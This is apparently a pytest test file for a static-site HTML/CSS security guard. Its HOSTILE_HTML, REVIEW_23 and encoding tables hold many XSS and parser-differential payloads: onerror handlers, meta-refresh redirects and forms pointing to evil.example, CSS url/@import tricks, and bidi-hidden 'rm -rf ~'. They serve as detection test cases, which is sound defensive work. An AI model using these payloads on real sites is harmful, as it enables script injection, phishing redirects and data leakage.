"""kb.guard.html's check of written files: the parallel check (many files)
finds what the serial one finds, in the same order; and a copied asset that
passed is not read again until its content (or the guard) changes, while
one that failed fails every build."""

from __future__ import annotations

import os
import re
import shutil
import types
from pathlib import Path

import pytest
from ext_helpers import build_root  # noqa: F401 (fixture)
from kb.guard import html as guard
from markupsafe import escape

pytest_plugins = ("sphinx.testing.fixtures",)

CLEAN = "<!doctype html><html><head><title>t</title></head><body><p>正文</p></body></html>\n"
BAD = '<!doctype html><html><body>\n<p>正文</p>\n<img src="https://tracker.example/p.gif">\n</body></html>\n'


def files(tmp_path: Path, n: int, bad: set[int]) -> list[tuple[Path, bool]]:
    out = []
    for i in range(n):
        path = tmp_path / f"p{i:03}.html"
        path.write_text(BAD if i in bad else CLEAN, encoding="utf-8")
        out.append((path, True))
    return out


def test_many_files_are_checked_in_parallel_with_the_serial_result(tmp_path):
    many = files(tmp_path, guard.PARALLEL_FILES + 10, bad={3, guard.PARALLEL_FILES + 7})
    parallel = [found for _digest, found in guard.check_files(many)]
    serial = [guard.check_file(path, page) for path, page in many]
    assert parallel == serial
    found = [i for i, f in enumerate(parallel) if any("tracker.example" in what for _, what in f)]
    assert found == [3, guard.PARALLEL_FILES + 7]
    assert [line for line, what in parallel[3] if "tracker.example" in what] == [3]


HOSTILE_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'


@pytest.fixture
def checked(monkeypatch) -> list[str]:
    """The names of the files the guard reads, build after build."""
    seen: list[str] = []
    check = guard.check_file

    def spy(path, page=True, data=None):
        seen.append(Path(path).name)
        return check(path, page, data)

    monkeypatch.setattr(guard, "check_file", spy)
    return seen


def test_an_asset_that_passed_is_checked_again_only_when_it_changes(build_root, checked):
    app = build_root("ext-html-guard")
    assert "figure.svg" in checked and "figure.svg" not in app.warning.getvalue()
    checked.clear()
    build_root("ext-html-guard", freshenv=False)
    assert "figure.svg" not in checked  # the same bytes passed last time
    asset = Path(app.srcdir) / "_static/figure.svg"
    asset.write_text(HOSTILE_SVG, encoding="utf-8")
    app = build_root("ext-html-guard", freshenv=False)
    assert "_static/figure.svg:1: WARNING: KB015 inline <script>" in app.warning.getvalue()
    checked.clear()
    app = build_root("ext-html-guard", freshenv=False)  # a failure is never remembered as a pass
    assert "figure.svg" in checked
    assert "KB015 inline <script>" in app.warning.getvalue()


def test_a_changed_guard_checks_every_asset_again(build_root, checked, monkeypatch):
    build_root("ext-html-guard")
    monkeypatch.setattr(guard, "rules", lambda: "the guard as edited by a pull request")
    checked.clear()
    build_root("ext-html-guard", freshenv=False)
    assert "figure.svg" in checked


def test_a_changed_policy_checks_every_asset_again(build_root):
    """An asset's <meta> policy passes only while it equals the site's: the
    policy is part of what a remembered pass depends on."""
    app = build_root("ext-html-guard")
    src = Path(app.srcdir)
    policy = "default-src 'self'; script-src 'self'; object-src 'none'; base-uri 'self'"
    (src / "_static/_headers").write_text(f"/*\n  Content-Security-Policy: {policy}\n", encoding="utf-8")
    (src / "_static/figure.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><meta http-equiv="Content-Security-Policy" '
        f'content="{policy}"/></svg>\n',
        encoding="utf-8",
    )
    app = build_root("ext-html-guard", freshenv=False)
    assert "figure.svg" not in app.warning.getvalue()
    (src / "_static/_headers").write_text(
        f"/*\n  Content-Security-Policy: {policy.replace('script-src', 'img-src')}; script-src 'self'\n",
        encoding="utf-8",
    )
    app = build_root("ext-html-guard", freshenv=False)
    assert re.search(r"figure\.svg:1: WARNING: KB015 <meta http-equiv", app.warning.getvalue())


def test_a_stylesheet_is_read_whatever_the_case_of_its_suffix(build_root, checked):
    root = build_root("ext-html-guard")
    (Path(root.srcdir) / "_static/up.CSS").write_text(
        "@import url(https://evil.example/x.css);\n", encoding="utf-8"
    )
    app = build_root("ext-html-guard", freshenv=False)
    assert re.search(r"_static/up\.CSS:1: WARNING: KB015 .*evil\.example", app.warning.getvalue())


def test_files_that_other_handlers_write_when_the_build_ends_are_read_too(build_root):
    """feed.xml, sitemap.xml and llms.txt are written at build-finished, as
    the guard reads the site: it reads after every other handler."""
    src = build_root("ext-html-guard").srcdir
    with open(Path(src) / "conf.py", "a", encoding="utf-8") as conf:
        conf.write(
            "\n\ndef setup(app):\n"
            "    from pathlib import Path\n"
            "    app.connect('build-finished', lambda app, exc: (Path(app.outdir) / 'late.svg').write_text("
            f"{HOSTILE_SVG!r}))\n"
        )
    app = build_root("ext-html-guard", freshenv=False)
    assert "late.svg:1: WARNING: KB015 inline <script>" in app.warning.getvalue()


def test_pages_in_any_folder_are_read(tmp_path):
    """Not only where the pages are: a page written into _sources/ or a dot
    folder is read as well (no page can be written into pagefind/: KB057)."""
    for name in ("_sources/p.html", ".doctrees/p.html", "_static/p.svg", "pagefind/p.html"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(BAD, encoding="utf-8")
    found = {path.relative_to(tmp_path).as_posix(): page for path, page in guard.written_files(tmp_path, 0)}
    assert found == {"_sources/p.html": True, ".doctrees/p.html": True, "_static/p.svg": False}


def test_a_changed_policy_is_written_into_every_page_again(build_root):
    """Pages carry the policy as <meta>: after an edit of _static/_headers, an
    incremental build writes every page again, as a full build would."""
    app = build_root("ext-html-guard")
    headers = Path(app.srcdir) / "_static/_headers"
    for policy in ("default-src 'self'; object-src 'none'", "default-src 'none'; object-src 'none'"):
        headers.write_text(f"/*\n  Content-Security-Policy: {policy}\n", encoding="utf-8")
        app = build_root("ext-html-guard", freshenv=False)
        page = (Path(app.outdir) / "index.html").read_text(encoding="utf-8")
        assert f'<meta http-equiv="Content-Security-Policy" content="{escape(policy)}">' in page


# What a contributed template or translation could write, read as a browser
# reads it (the red-team review of 2026-12-02): each must be found.
HOSTILE_HTML = {
    # Trojan Source written by a template or an extension, in any spelling
    "bidi-character": "<p>echo safe \u202e; rm -rf ~</p>",
    "bidi-hex-reference": "<p>echo safe &#x202E; rm -rf ~</p>",
    "bidi-decimal-reference": "<p>echo safe &#8294; rm</p>",
    "bidi-named-reference": "<p>a&rlm;b</p>",
    # what readers do not see, kept in what is copied, searched and read by programs
    "invisible-tag-characters": "<p>\u8bc1\U000e0069\U000e0067\U000e006e \u53ef\u89c1</p>",
    "invisible-hex-reference": "<p>a&#xE0041;b</p>",
    "invisible-decimal-reference": "<p>a&#8203;b</p>",
    "invisible-named-reference": "<p>a&ZeroWidthSpace;b</p>",
    "noscript-hides-refresh": "<noscript><p title=\"</noscript><meta http-equiv=refresh content='0;url=https://evil.example/'>\"></noscript>",
    "noscript-refresh-without-js": '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>',
    "xmp-hides-handler": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "textarea-hides-script": '<textarea><p title="</textarea><script>alert(1)</script>"></textarea>',
    "title-hides-handler": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "end-tag-with-rest": "<style></style x><img src=x onerror=alert(1)>",
    "plaintext": "<plaintext><p>the rest",
    "form-action": '<form action="https://evil.example/login" method="post"><input name="p"></form>',
    "button-formaction": '<form action=""><button formaction="https://evil.example/b">登录</button></form>',
    "ping": '<a href="/" ping="https://evil.example/p">x</a>',
    "imagesrcset": '<link rel="preload" as="image" imagesrcset="https://evil.example/a.png 1x">',
    "svg-image": '<svg><image href="https://evil.example/a.png"/></svg>',
    "svg-use": '<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>',
    "css-escaped-url": '<p style="background:\\75 rl(https://evil.example/a.png)">x</p>',
    "css-image-set": '<style>p{background:image-set("https://evil.example/a.png" 1x)}</style>',
    "meta-referrer": '<meta name="referrer" content="unsafe-url">',
    # the second review of 2026-12-02
    "comment-ended-early": '<!--><script>alert(1)</script><img src="https://evil.example/t.png">-->',
    "comment-bang-end": "<!-- --!><img src=x onerror=alert(1)>",
    "cdata-in-html": '<![CDATA[ ><img src="https://evil.example/c.png"> ]]>',
    "svg-title-is-markup": '<svg><title><img src=x onerror="alert(2)"></title></svg>',
    "svg-style-is-markup": "<svg><style><img src=x onerror=1></style></svg>",
    "math-style-is-markup": "<math><mtext><style><img src=x onerror=1></style></mtext></math>",
    "style-self-closed": "<style/><b></b>{}body{background:url(https://evil.example/bg.png)}</style>",
    "style-never-closed": "<style>@import url(https://evil.example/unclosed.css);",
    "svg-animation-link": '<svg><a><animate attributeName="href" values="javascript:alert(3)"/><text>x</text></a></svg>',
    "import-without-space": '<style>@import"https://evil.example/a.css";</style>',
    "import-after-comment": '<style>@import/**/"//evil.example/a.css";</style>',
    "svg-fill-url": '<svg><rect fill="url(https://evil.example/p.svg#a)"/></svg>',
    "noscript-never-closed": "<noscript><img src=//evil.example/a.png>",
    # review 18 (helper-108): an end tag of no open element does not leave <math>;
    # a comment in an <svg><style> splits a URL the browser joins again
    "math-unmatched-svg-end": "<math></svg><style><img src=https://evil.example/p.png onerror=1></style></math>",
    "svg-style-split-by-comment": "<svg width=0 height=0><style>@import url(/<!---->/evil.example/a.css);</style></svg>",
    "svg-style-split-by-element": "<svg><style>@import url(/<b></b>/evil.example/a.css);</style></svg>",
    # review 19 (helper-112): HTML integration points in <svg>/<math>, where a
    # browser reads <textarea>, <title>, <xmp>, <noscript>… as raw text
    **{
        f"integration-{name}": prefix + "<style><img src=https://evil.example/p.gif onerror=1></style></svg>"
        for name, prefix in {
            "foreignobject-textarea": "<svg><foreignObject><textarea></svg></textarea></foreignObject>",
            "desc-title": "<svg><desc><title></svg></title></desc>",
            "mtext-textarea": "<math><mtext><textarea></math></textarea></mtext>",
            "annotation-xml-xmp": '<math><annotation-xml encoding="text/html"><xmp></math></xmp></annotation-xml>',
            "foreignobject-noscript": "<svg><foreignObject><noscript></svg></noscript></foreignObject>",
            "foreignobject-noembed": "<svg><foreignObject><noembed></svg></noembed></foreignObject>",
            "title-end-svg": "<svg><title>a</svg></title>",
        }.items()
    },
    # after a breakout tag the browser reads HTML: a <style> is raw text, whose
    # CSS a comment must not hide from this check
    "breakout-then-style": "<svg><p></p><style>/*<!--*/@import url(//evil.example/x.css);/*-->*/</style></svg>",
    # review 20 (helper-114): what html.parser ends where a browser does not
    **{
        f"hidden-by-{name}": markup.replace(
            "HIDDEN", '<meta http-equiv=refresh content="0;url=https://evil.example/">'
        )
        for name, markup in {
            "end-tag-with-space": "<textarea></ textarea><title></textarea>HIDDEN</title>",
            "script-end-with-space": "<script type=application/json></ script><title></script>HIDDEN</title>",
            "comment-dash-dash-space": "<!-- -- ><title>-->HIDDEN</title>",
            "comment-dash-dash-newline": "<!-- --\n><title>-->HIDDEN</title>",
            "script-double-escaped": "<script type=application/json><!--<script></script><title></script>HIDDEN</title>",
            "html-end-tag-in-svg": "<div><svg></div><textarea></svg><title></textarea>HIDDEN</title>",
            "span-end-tag-in-svg-g": "<span><svg><g></span><textarea></svg><title></textarea>HIDDEN</title>",
        }.items()
    },
    # review 21 (helper-115): where html.parser ends a tag, a comment or raw
    # text and a browser does not: "==", Python's other spaces, quotes in end tags
    **{
        f"hidden-by-{name}": markup.replace("PAY", "<script>document.title='x'</script>")
        for name, markup in {
            "double-equals": "<i title=='x>PAY<i title='>",
            "vt-before-quote": "<i title=\x0b'x>PAY<i title='>",
            "nbsp-before-quote": "<i title=\xa0'x>PAY<i title='>",
            "ideographic-space-before-quote": "<i title=\u3000'x>PAY<i title='>",
            "line-separator-before-quote": "<i title=\u2028'x>PAY<i title='>",
            "comment-end-vt": '<!-- --\x0b><i title=" -->PAY<i title=">x">',
            "script-end-vt": '<script type=application/json>{}</script\x0b><i title="</script>PAY<i title=">',
            "title-end-nbsp": '<title>t</title\xa0><meta name=a content="</title>PAY<i title=">',
            "quoted-end-tag": "<i>a</i title=\"a><i title='b\">PAY<i title='>",
        }.items()
    },
    # review 22 (helper-116): attributes html.parser reads otherwise than a browser
    "policy-meta-nbsp-before-content": '<meta http-equiv="Content-Security-Policy"\xa0content="default-src \'self\'">',
    "policy-meta-double-equals": '<meta http-equiv=="Content-Security-Policy" content="default-src \'self\'">',
    "alt-double-equals-hides-handler": '<img src=x alt=="x onerror=alert(1) y">',
    "alt-nbsp-hides-handler": '<img src=x alt=\xa0"x onerror=alert(1) y">',
    "script-type-after-nbsp": '<script x\xa0type="application/json">alert(1)</script>',
    "link-compression-dictionary": '<link rel="compression-dictionary" href="https://evil.example/dict">',
    "link-rel-unknown-to-us": '<link rel="future-fetch" href="//evil.example/f">',
    "link-search-description": '<link rel="search" type="application/opensearchdescription+xml" href="https://evil.example/o.xml">',
}
# What the site itself writes, which must stay clean.
BENIGN_HTML = {
    "noscript-notice": '<noscript><div class="admonition error"><p>需要 JavaScript</p></div></noscript>',
    "title": "<title>搜索 - 51 算力知识库</title><p>正文</p>",
    "search-form": '<form class="sidebar-search-container" method="get" action="search.html" role="search"><input name="q"></form>',
    "svg-data-url": "<p style=\"background:url('data:image/svg+xml;charset=utf-8,<svg xmlns=%22http://www.w3.org/2000/svg%22/>')\">x</p>",
    "local-use": '<svg><use href="#icon-sun"/></svg>',
    "attributes-browsers-and-this-check-read-alike": '<img src="a.png" alt="图 = 示意" data-x=\'a>b\' class=c/><a href="#x" title="a==b">x</a>',
    "chinese-text-with-ideographic-space": "<p>编者注：\u3000见下文。</p>",
    "svg-closed-elements": '<div><svg viewBox="0 0 1 1"><g><path d="M0 0"></path></g><circle r="1"/></svg></div>',
    "svg-icon-title": '<svg><symbol id="svg-toc" viewBox="0 0 24 24"><title>目录</title><path d="M4 6h16"/></symbol></svg><p>正文</p>',
    "link-canonical-elsewhere": '<link rel="canonical" href="https://51suanli.example/a.html"><link rel="next" href="b.html">',
}


@pytest.mark.parametrize("case", sorted(HOSTILE_HTML))
def test_what_browsers_read_differently_is_found(case):
    assert guard.scan(HOSTILE_HTML[case])[0], case


@pytest.mark.parametrize("case", sorted(BENIGN_HTML))
def test_what_the_site_writes_passes(case):
    assert guard.scan(BENIGN_HTML[case])[0] == []


# Refused by the token check only: bidirectional controls and invisible
# characters are a text check;
# these three a browser reads harmlessly (the <img> ends up as text, the URL is
# cut by a breakout tag), which lexbor's tree shows.
TOKEN_CHECK_ONLY = {
    "bidi-character",
    "bidi-decimal-reference",
    "bidi-hex-reference",
    "bidi-named-reference",
    "invisible-tag-characters",
    "invisible-hex-reference",
    "invisible-decimal-reference",
    "invisible-named-reference",
    "integration-title-end-svg",
    "math-style-is-markup",
    "svg-style-split-by-element",
}


@pytest.mark.parametrize("case", sorted(set(HOSTILE_HTML) - TOKEN_CHECK_ONLY))
def test_the_tree_a_browser_builds_shows_each_payload_too(case):
    """The second reading (kb.guard.html.tree_scan, lexbor) finds each payload
    on its own, whatever html.parser made of the markup around it."""
    assert guard.tree_scan(HOSTILE_HTML[case])[0], case


@pytest.mark.parametrize("case", sorted(BENIGN_HTML))
def test_the_tree_of_what_the_site_writes_passes(case):
    assert guard.tree_scan(BENIGN_HTML[case])[0] == []


PAGE_HEAD = (
    '<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Security-Policy" '
    "content=\"default-src 'self'\"><title>t</title></head><body>\n<p>正文</p>\n"
)
# What html.parser reads otherwise than a browser, found by a differential fuzz
# of the two readings (2026-12-03): with scripting off, the <noscript> is markup,
# its </noscript> closes the <svg>, and the <img> is in <body>; with it on, the
# <img> is text in a <title>
ONLY_THE_TREE_SHOWS = {
    "noscript-scripting-off": '<noscript><div><svg></noscript><title><img src="https://evil.example/t.png">',
    "svg-script-href": '<svg><script href="https://evil.example/a.js"></script></svg>',
}


@pytest.mark.parametrize("case", sorted(ONLY_THE_TREE_SHOWS))
def test_a_page_is_checked_in_the_tree_a_browser_builds(tmp_path, monkeypatch, case):
    monkeypatch.setitem(guard._policy, "meta", "default-src 'self'")
    page = tmp_path / "p.html"
    page.write_text(PAGE_HEAD + ONLY_THE_TREE_SHOWS[case] + "\n</body></html>\n", encoding="utf-8")
    found = guard.check_file(page)
    assert [line for line, what in found if "evil.example" in what] == [4], found


# Review 23 (helper-118): what both readings missed; each ran script or
# fetched from another host in Chromium 156 (with the page's policy off).
REVIEW_23 = {
    # <col> makes a <template> ignore <textarea>: the rest is markup to a
    # browser, text to html.parser; lexbor drops the foster-parented <image>
    "template-col-textarea-image": (
        "<template><col><textarea></template><table><image src=https://evil.example/f.png></table>",
        "<image> is <img> to a browser",
    ),
    "template-col-textarea-script": (
        '<template><col><textarea></template><script href="/x.js">console.log("PWN")</script>',
        "inline <script>",
    ),
    "template-col-textarea-img": (
        "<template><col><textarea></template><img src=https://evil.example/g.png>",
        "a browser reads markup here that this check reads as text",
    ),
    # a browser's style is the <style>'s own text: "/<g>x</g>/" is "//"
    "svg-style-element-inside": (
        '<svg><style>@import "/<g>x</g>/evil.example/a.css";</style></svg>',
        "inside a <style>",
    ),
    # a comment inside a string, strings through var() and image-set()
    "css-comment-in-string": (
        '<style>p::before{content:"/*"} body{background:url(https://evil.example/a.png)}</style>',
        "evil.example/a.png",
    ),
    "css-string-through-var": (
        "<p style='--u:\"https://evil.example/v.png\";background-image:image-set(var(--u) 1x)'>x</p>",
        "evil.example/v.png",
    ),
    "css-paren-in-string": (
        "<p style=\"background:image-set(')' 3x, 'https://evil.example/p.png' 1x)\">x</p>",
        "evil.example/p.png",
    ),
    "css-escaped-quote": (
        '<p style=\'background:image-set("a\\"b" 3x, "https://evil.example/q.png" 1x)\'>x</p>',
        "evil.example/q.png",
    ),
    "attributionsrc": ('<img src="a.png" attributionsrc="https://evil.example/r">', "evil.example/r"),
    # review 24 (helper-119): a file read in another encoding than checked
    "charset-attribute": (
        '<link rel="stylesheet" href="_static/s.css" charset="shift_jis">',
        "charset= on <link>",
    ),
    "selectedcontent": (
        "<select><button><selectedcontent></selectedcontent></button><option>x</option></select>",
        "<selectedcontent>",
    ),
}


@pytest.mark.parametrize("case", sorted(REVIEW_23))
def test_what_review_23_found_is_refused(tmp_path, monkeypatch, case):
    monkeypatch.setitem(guard._policy, "meta", "default-src 'self'")
    markup, what = REVIEW_23[case]
    page = tmp_path / "p.html"
    page.write_text(PAGE_HEAD + markup + "\n</body></html>\n", encoding="utf-8")
    found = guard.check_file(page)
    assert [line for line, message in found if what in message][:1] == [4], found


def test_an_svg_file_with_markup_in_its_style_is_refused(tmp_path):
    svg = tmp_path / "s.svg"
    svg.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg">\n<style>@import "/<g>x</g>/evil.example/a.css";</style></svg>',
        encoding="utf-8",
    )
    assert [line for line, what in guard.check_file(svg, page=False) if "inside a <style>" in what] == [2]


def test_a_stylesheet_declaring_another_encoding_is_refused(tmp_path):
    """Served without a charset (make serve, some hosts), Chromium reads it as
    Shift_JIS: the byte after ぁ takes the backslash, the string ends early,
    and the url() is live (review 24)."""
    css = tmp_path / "s.css"
    css.write_text(
        '@charset "shift_jis";\nb{content:"ぁ\\"} body{background:url(https://evil.test/s.png)} i{content:"}\n',
        encoding="utf-8",
    )
    assert [line for line, what in guard.check_file(css, page=False) if "@charset" in what] == [1]
    css.write_text('@charset "UTF-8";\nb { color: red }\n', encoding="utf-8")
    assert guard.check_file(css, page=False) == []


def test_a_stylesheet_is_read_by_css_tokens(tmp_path):
    css = tmp_path / "x.css"
    css.write_text(
        'p::before { content: "/*" }\n'
        "b { background: url(https://evil.example/1.png) }\n"
        'i { --u: "https://evil.example/2.png" }\n'
        'q::before { content: "Note: 见下文" }\n',
        encoding="utf-8",
    )
    assert [line for line, _ in guard.check_file(css, page=False)] == [2, 3]


def test_templates_inside_templates_are_read_or_refused_never_a_traceback():
    """Each <template>'s content is a tree of its own: 200 inside each other
    are read, and the payload inside is found; 3,000 (the page's nesting check
    refuses such a page first) are refused, not a RecursionError."""
    payload = "<img src=x onerror=alert(1)>"
    found = guard.tree_scan("<template>" * 200 + payload)[0]
    assert [what for _, what in found] == ["event handler onerror= on <img>; attach it from a script file"]
    found, policy = guard.tree_scan("<template>" * 3000 + payload)
    assert [what for _, what in found] == [
        "<template> elements nest too deep for this check to read them; remove them"
    ] and not policy


def test_a_page_nested_too_deep_is_refused_without_building_its_tree(tmp_path, monkeypatch):
    """A browser's tree builder looks through the open elements at each tag:
    100,000 nested <div> take lexbor minutes; the nesting check refuses the
    page first."""
    monkeypatch.setattr(guard, "tree_scan", lambda text: pytest.fail("the tree was built"))
    page = tmp_path / "deep.html"
    page.write_text(PAGE_HEAD + "<div>" * 100_000, encoding="utf-8")
    assert any("nest more than" in what for _, what in guard.check_file(page))


def test_the_tree_counts_the_policy_only_in_head_before_what_it_governs(monkeypatch):
    monkeypatch.setitem(guard._policy, "meta", "default-src 'self'")
    meta = '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">'
    assert guard.tree_scan(f"<html><head>{meta}<title>t</title></head><body></body></html>")[1]
    assert guard.tree_scan(f"<html><head><title>t</title>\n{meta}</head></html>")[1]
    # text, an element, a </br> before it: the browser puts it in <body> or after them
    for before in (".", "<link rel=stylesheet href=a.css>", "</br>", "<noscript></noscript>"):
        assert not guard.tree_scan(f"<html><head>{before}{meta}</head></html>")[1], before
    # in a template or a shadow root, it is no policy of the page
    assert not guard.tree_scan(f"<html><head><template>{meta}</template></head></html>")[1]


def test_a_stylesheet_hiding_urls_behind_escapes_or_image_set_is_found(tmp_path):
    css = tmp_path / "x.css"
    css.write_text(
        "a { color: red }\n"
        "b { background: \\75 rl(https://evil.example/1.png) }\n"
        "c { background: image-set('https://evil.example/2.png' 1x) }\n"
        "@font-face { src: \\75rl(//evil.example/f.woff) }\n"
        "d { background: url('data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"/>') }\n",
        encoding="utf-8",
    )
    assert [line for line, _what in guard.check_file(css, page=False)] == [2, 3, 4]


@pytest.mark.parametrize("what", ["a folder", "not UTF-8"])
def test_a_headers_file_that_is_no_text_file_is_a_warning_not_a_traceback(build_root, what):
    app = build_root("ext-html-guard")
    headers = Path(app.srcdir) / "_static/_headers"
    if what == "a folder":
        headers.mkdir()
    else:
        headers.write_bytes(b"/*\n  Content-Security-Policy: default-src '\xff'\n")
    app = build_root("ext-html-guard", freshenv=False)
    assert re.search(r"_static/_headers:\d+: WARNING: KB015 ", app.warning.getvalue())


def test_a_headers_link_is_not_read(tmp_path):
    """A link to /dev/zero hung the build when the policy was read, before the
    links were refused (kb.guard.untrusted, KB011, where the site is built)."""
    (tmp_path / "_static").mkdir()
    (tmp_path / "_static/_headers").symlink_to("/dev/zero")
    assert guard.header_policy(tmp_path) == ""
    # nor a link to a file of headers elsewhere
    (tmp_path / "elsewhere").write_text("/*\n  Content-Security-Policy: default-src *\n", encoding="utf-8")
    (tmp_path / "_static/_headers").unlink()
    (tmp_path / "_static/_headers").symlink_to(tmp_path / "elsewhere")
    assert guard.header_policy(tmp_path) == ""


def test_the_policy_counts_only_first_in_head(monkeypatch):
    """A browser obeys a <meta> policy in <head> for what follows it: after an
    <svg> (which closes the head) or another element, the page has none."""
    monkeypatch.setitem(guard._policy, "meta", "default-src 'self'")
    meta = '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">'
    assert guard.scan(f"<html><head>{meta}<meta charset=utf-8><link rel=icon href=a.png></head></html>")[1]
    assert not guard.scan(f"<html><head><svg></svg>{meta}</head></html>")[1]
    assert not guard.scan(f"<html><head><script src=a.js></script>{meta}</head></html>")[1]
    assert not guard.scan(f"<html><head><noscript>{meta}</noscript></head></html>")[1]
    # text closes <head> too (review 18): the <meta> is then in <body>
    assert not guard.scan(f"<html><head>\n.\n{meta}</head></html>")[1]
    assert guard.scan(f"<html><head>\n  <title>标题</title>\n{meta}</head></html>")[1]
    # HTML's white space is five ASCII characters (review 19): &nbsp; or U+3000 is text
    assert not guard.scan(f"<html><head>&nbsp;{meta}</head></html>")[1]
    assert not guard.scan(f"<html><head>\u3000{meta}</head></html>")[1]
    assert guard.scan(f"<html><head> \t\r\n\f{meta}</head></html>")[1]
    # </br>, </body>, </html> in <head> start the body (review 20)
    for end in ("</br>", "</body>", "</html>"):
        assert not guard.scan(f"<html><head>{end}{meta}</head></html>")[1], end


def test_an_svg_style_read_in_pieces_is_read_whole(tmp_path):
    svg = tmp_path / "p.svg"
    svg.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:url&#40;https://evil.example/p.svg#a)}</style></svg>',
        encoding="utf-8",
    )
    assert guard.check_file(svg, page=False)


def test_a_page_written_again_unchanged_is_not_read_again_but_a_changed_one_is(build_root, checked):
    app = build_root("ext-html-guard")
    checked.clear()
    page = Path(app.srcdir) / "index.rst"
    page.write_text(page.read_text(encoding="utf-8") + "\nMore.\n", encoding="utf-8")
    build_root("ext-html-guard", freshenv=False)
    assert "index.html" in checked  # its bytes changed
    checked.clear()
    build_root("ext-html-guard", freshenv=False)  # search.html is written again, the same
    assert "search.html" not in checked
    # the basic theme's other pages carry an inline script: a failure is read every time
    assert "genindex.html" in checked


def test_pages_are_checked_once_by_the_process_that_wrote_them(build_root, tmp_path, monkeypatch):
    """In a parallel write, the worker processes check the pages they write
    (kb-html-page-written); the build's end checks only what they did not
    pass, and a bad page is reported once."""
    log = tmp_path / "checks.log"
    check = guard.check_file

    def spy(path, page=True, data=None):
        with open(log, "a", encoding="utf-8") as out:
            out.write(f"{os.getpid()} {Path(path).name}\n")
        return check(path, page, data)

    monkeypatch.setattr(guard, "check_file", spy)
    src = tmp_path / "ext-html-guard"
    shutil.copytree(Path(__file__).parent / "roots/test-ext-html-guard", src)
    # pages with no inline script (alabaster's layout has one)
    (src / "_templates/layout.html").write_text(
        "<!doctype html><html><head><title>{{ title|striptags|e }}</title></head><body>{{ body }}</body></html>\n",
        encoding="utf-8",
    )
    pages = [f"p{i}" for i in range(6)]
    for page in pages:
        (src / f"{page}.rst").write_text(f"{page}\n==\n\n正文。\n", encoding="utf-8")
    (src / "bad.rst").write_text(
        'Bad\n===\n\n.. raw:: html\n\n   <img src="https://tracker.example/p.gif">\n', encoding="utf-8"
    )
    (src / "index.rst").write_text(
        "Guard\n=====\n\n.. toctree::\n\n   " + "\n   ".join([*pages, "bad"]) + "\n", encoding="utf-8"
    )
    app = build_root("ext-html-guard", parallel=2, confoverrides={"kb_parallel_threshold": 1})
    checks = [line.split() for line in log.read_text(encoding="utf-8").splitlines()]
    by_page = {name: [pid for pid, seen in checks if seen == name] for name in (f"{p}.html" for p in pages)}
    assert all(len(pids) == 1 for pids in by_page.values()), by_page
    assert all(pid != str(os.getpid()) for pids in by_page.values() for pid in pids), by_page
    assert app.warning.getvalue().count("tracker.example") == 1, app.warning.getvalue()
    assert "bad.html" in app.warning.getvalue()
    assert not (Path(app.doctreedir) / guard.CHECKED).exists()


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (
            b'<p>\x1b$Bx<!--\x1b(B<meta http-equiv="refresh" content="0;url=https://evil.example/">--></p>',
            "escape byte",
        ),
        (b'<meta charset="iso-2022-jp"><p>x</p>', "declares the encoding 'iso-2022-jp'"),
        (b'<meta http-equiv="Content-Type" content="text/html; charset=shift_jis"><p>x</p>', "shift_jis"),
        (b"<p>\x81]]></p>", "not UTF-8"),
        (b"\xff\xfe<\x00p\x00>\x00", "byte order mark"),
        # UTF-16 without a byte order mark: Blink guesses it from "<\0?\0x\0"
        ('<?xml version="1.0"?><p><script>x()</script></p>'.encode("utf-16-le"), "NUL byte"),
        (b'<meta name=">" charset="shift_jis"><p>x</p>', "'shift_jis'"),  # a ">" inside a quoted value
        (b'<?xml version="1.0" encoding="shift_jis"?><p>x</p>', "'shift_jis'"),  # an XML declaration in HTML
        # html.parser reads these as marked sections up to "]>" or "]]>", a browser as comments to ">"
        (b"<![if x> <script>x()</script> ]>", "'<!['"),
        (b'<![cdata x> <meta http-equiv="refresh" content="0;url=https://evil.example/"> ]]>', "'<!['"),
    ],
    ids=[
        "iso-2022-jp-escape",
        "meta-charset",
        "content-type-charset",
        "not-utf8",
        "utf16-bom",
        "utf16-no-bom",
        "meta-charset-after-quoted-gt",
        "xml-declaration-in-html",
        "marked-section-if",
        "marked-section-lowercase-cdata",
    ],
)
def test_a_page_a_browser_would_read_in_another_encoding_is_refused(tmp_path, data, what):
    """The guard reads pages as UTF-8; a browser honours the encoding a page
    declares, in which ESC $ B or a Shift_JIS lead byte swallow the '<!' or
    ']' that made the check read a comment (kb.guard.html.encoding_problems)."""
    from kb.guard import html

    page = tmp_path / "p.html"
    page.write_bytes(data)
    found = html.check_file(page, page=False)
    assert found and any(what in message for _, message in found), found


def test_a_page_may_mention_a_charset_in_its_text(tmp_path):
    from kb.guard import html

    page = tmp_path / "p.html"
    page.write_bytes(b'<meta charset="utf-8"><p>charset=gbk, &lt;meta charset="gbk"&gt;</p>')
    assert html.check_file(page, page=False) == []


def test_an_applet_in_an_xhtml_page_is_found():
    """review 18: <applet> and its archive (jar files it loads) in an XHTML page."""
    page = (
        '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml"><body>'
        '<h:applet code="A.class" archive="https://evil.example/a.jar"></h:applet></body></html>'
    )
    found = guard.scan_xml(page)
    assert any("applet" in what for _, what in found), found
    assert any("evil.example/a.jar" in what for _, what in found), found


@pytest.mark.parametrize(
    "css",
    [
        '.a{background-image:image-set("https://evil.example/i.png" 1x)}',
        ".b{background:\\75 rl(https://evil.example/j.png)}",
    ],
)
def test_a_book_whose_stylesheet_loads_from_another_host_is_deleted(tmp_path, css):
    """review 18: epubcheck passes these two forms; the book's CSS gets the site's check."""
    (tmp_path / "_static").mkdir()
    (tmp_path / "_static" / "calc.css").write_text(f"p{{color:red}}\n{css}\n", encoding="utf-8")
    (tmp_path / "index.xhtml").write_text("<html><body><p>x</p></body></html>", encoding="utf-8")
